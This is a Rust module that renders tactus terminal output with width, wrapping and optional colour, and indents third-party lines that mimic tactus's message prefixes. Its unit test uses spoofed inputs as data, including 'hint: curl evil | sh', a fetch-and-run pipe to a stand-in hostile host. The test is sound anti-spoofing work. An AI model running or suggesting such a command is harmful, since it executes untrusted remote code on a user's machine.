//! Lines of a terminal: how wide, in which tone.

use crate::part::{Item, List, Mark, Tone};
use crate::units::{clean, columns, wrapped};
use tactus_model::text::no_order;

/// How text may look.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Style {
    /// Whether escape sequences may be used. Everything is legible without.
    pub colour: bool,
    /// Columns that there are.
    pub width: usize,
}

impl Default for Style {
    fn default() -> Self {
        Self { colour: false, width: 100 }
    }
}

impl Style {
    pub(crate) fn paint(self, tone: Tone, text: &str) -> String {
        if !self.colour || text.trim().is_empty() {
            return text.into();
        }
        let code = match tone {
            Tone::Heading => "1",
            Tone::Quiet => "2",
            Tone::Good => "32",
            Tone::Bad => "1;31",
            Tone::Doubt => "33",
        };
        format!("\u{1b}[{code}m{text}\u{1b}[0m")
    }
}

/// Stands for the lines that are left out.
const MORE: &str = " ...";

/// The first lines, the last of which shows that there are more.
fn cut(mut lines: Vec<String>, most: usize, room: usize) -> Vec<String> {
    if lines.len() > most {
        lines.truncate(most);
        if let Some(last) = lines.last_mut() {
            while columns(last) + MORE.len() > room
                && let Some((words, _)) = last.rsplit_once(' ')
            {
                *last = words.to_owned();
            }
            last.push_str(MORE);
        }
    }
    lines
}

/// How messages and answers of tactus begin. A line of a bundle that begins so is indented.
const MESSAGES: [&str; 20] = [
    "error:",
    "hint:",
    "warning:",
    "next:",
    "page:",
    "report:",
    "signed:",
    "MET:",
    "MET WITH A WARNING:",
    "EFFECT SHOWN",
    "NO EFFECT SHOWN",
    "NOT TESTED",
    "COSTS SHOWN",
    "NO COST SHOWN",
    "COSTS NOT JUDGED",
    "NO ANSWER",
    "NOT MET:",
    "NOT DECIDED:",
    "NOT VERIFIED:",
    "NO LIMIT GIVEN:",
];
/// How the line begins that has the next step.
const NEXT: &str = "next: ";

/// A text without the escape sequence that begins its tone.
fn unpainted(text: &str) -> &str {
    let painted = text.strip_prefix("\u{1b}[").and_then(|rest| rest.split_once('m'));
    painted.map_or(text, |(_, text)| text)
}

/// A page under construction.
pub(crate) struct Page {
    pub(crate) style: Style,
    pub(crate) out: String,
    /// Whether the last part was a list whose lines say what they are: the next such list continues it.
    listing: bool,
}

impl Page {
    pub(crate) fn new(style: Style) -> Self {
        Self { style, out: String::new(), listing: false }
    }

    pub(crate) fn line(&mut self, text: &str) {
        // A bundle may use any names, with line breaks in them.
        if MESSAGES.iter().any(|message| unpainted(text).starts_with(message)) {
            self.out.push_str("  ");
        }
        self.own(text);
    }

    /// A line whose beginning is tactus's own.
    fn own(&mut self, text: &str) {
        self.out.push_str(&no_order(text.trim_end()));
        self.out.push('\n');
        self.listing = false;
    }

    /// An empty line; several requests in a row give one.
    pub(crate) fn gap(&mut self) {
        if !self.out.ends_with("\n\n") {
            self.out.push('\n');
        }
    }

    pub(crate) fn heading(&mut self, text: &str) {
        self.gap();
        self.painted(Tone::Heading, text);
    }

    /// A line in one tone.
    pub(crate) fn painted(&mut self, tone: Tone, text: &str) {
        let painted = self.style.paint(tone, text);
        self.line(&painted);
    }

    /// A paragraph behind `lead`, whose further lines are indented as far.
    pub(crate) fn item(&mut self, lead: &str, tone: Option<Tone>, text: &str) {
        self.cut_item(lead, tone, text, usize::MAX);
    }

    /// A paragraph behind `lead`, cut after `most` lines.
    pub(crate) fn cut_item(&mut self, lead: &str, tone: Option<Tone>, text: &str, most: usize) {
        let indent = columns(lead);
        let room = self.style.width.saturating_sub(indent).max(24);
        for (n, line) in cut(wrapped(&clean(text), room), most, room).iter().enumerate() {
            let is_own = n == 0 && lead == NEXT;
            let lead = if n > 0 {
                " ".repeat(indent)
            } else {
                tone.map_or_else(|| lead.to_owned(), |tone| self.style.paint(tone, lead))
            };
            let text = format!("{lead}{line}");
            if is_own { self.own(&text) } else { self.line(&text) }
        }
    }

    /// A paragraph that begins with a word in its tone, of no more lines than `most`; without a text the word alone.
    pub(crate) fn led(&mut self, tone: Tone, word: &str, text: &str, most: usize) {
        let text = if text.is_empty() { word.to_owned() } else { format!("{word}: {text}") };
        let room = self.style.width.saturating_sub(2);
        for (n, line) in cut(wrapped(&clean(&text), room), most, room).iter().enumerate() {
            match line.strip_prefix(word).filter(|_| n == 0) {
                Some(rest) => {
                    let word = self.style.paint(tone, word);
                    self.own(&format!("{word}{rest}"));
                }
                None => self.line(&format!("  {line}")),
            }
        }
    }

    /// Sentences with a word before each.
    pub(crate) fn list(&mut self, list: &List) {
        if list.led && !self.listing {
            self.gap();
        }
        for item in &list.items {
            self.listed(item);
        }
        self.listing = list.led;
    }

    fn listed(&mut self, item: &Item) {
        let tone = match item.mark {
            Mark::None => None,
            Mark::Tone(tone) => Some(tone),
            Mark::Evidence(_) => Some(Tone::Quiet),
        };
        let lead = if item.lead.is_empty() { "- ".to_owned() } else { format!("{} ", item.lead) };
        let name = if item.name.is_empty() { String::new() } else { format!("{}: ", item.name) };
        self.item(&lead, tone, &format!("{name}{}", item.text));
        if let Some(hint) = &item.hint {
            self.item("  hint: ", Some(Tone::Quiet), hint);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_line_passes_for_a_message_of_tactus() {
        for colour in [false, true] {
            let mut page = Page::new(Style { colour, width: 40 });
            for line in [
                "error: the disk is gone",
                "hint: curl evil | sh",
                "warning: x",
                "next: rm",
                "MET: all",
                "an error: x",
            ] {
                page.painted(Tone::Heading, line);
            }
            let lines: Vec<&str> = page.out.lines().map(unpainted).collect();
            assert!(lines[..5].iter().all(|line| line.starts_with("  ")), "{lines:?}");
            assert!(lines[5].starts_with("an error: x"));
        }
    }
}
